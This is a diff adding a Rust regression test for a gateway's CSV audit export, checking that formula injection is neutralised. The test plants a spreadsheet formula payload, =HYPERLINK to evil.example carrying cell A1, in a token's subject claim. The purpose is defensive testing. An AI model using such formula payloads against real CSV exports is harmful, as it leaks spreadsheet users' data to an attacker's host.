@@ -22,6 +22,7 @@ both!(
     an_unwritable_log_answers_503_releases_nothing_and_recovers,
     two_instances_append_to_one_chain,
     export_writes_filtered_records_as_json_lines_and_csv,
+    a_csv_export_neutralises_formulas,
 );
 
 const PERSON_A: &str = "123456782";
@@ -544,5 +545,39 @@ async fn export_writes_filtered_records_as_json_lines_and_csv(b: Backend) {
     // audit verify compares checkpoint keys with the configured one: the shipped config's key passes.
     let out = doelpoort(&gw, &["audit", "verify"]);
     assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    gw.stop().await;
+}
+
+/// Regression (found by the attack round): a token `sub` of `=HYPERLINK(…)` landed in the CSV export as a live
+/// spreadsheet cell.
+async fn a_csv_export_neutralises_formulas(b: Backend) {
+    let gw = Gateway::start(b).await;
+    let politie = gw.org("politie");
+    let mut claims = claims(&politie, &["professional"]);
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"klik\")";
+    claims["sub"] = Value::from(formula);
+    let token = mint(&politie.key, header(&politie.key), claims);
+    let mut c = gw.connect(Some(&politie.identity)).await.unwrap();
+    let report = serde_json::json!({"subject": {"bsn": PERSON_A}, "summary": "Zorgen"});
+    let r = c
+        .send(Method::POST, "/v1/cases", Some(&token), Some(report))
+        .await
+        .unwrap();
+    assert_eq!(r.status, 201, "{}", r.text);
+
+    let file = gw.dir.path().join("export.csv");
+    let out = doelpoort(
+        &gw,
+        &["audit", "export", "--format", "csv", "--out", file.to_str().unwrap()],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
+    let mut reader = csv::Reader::from_path(&file).unwrap();
+    let column = reader.headers().unwrap().iter().position(|h| h == "actor_sub").unwrap();
+    let subs: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap().get(column).unwrap_or_default().to_owned())
+        .collect();
+    assert!(subs.contains(&format!("'{formula}")), "{subs:?}");
+    assert!(!subs.iter().any(|s| s.starts_with('=')), "{subs:?}");
     gw.stop().await;
 }
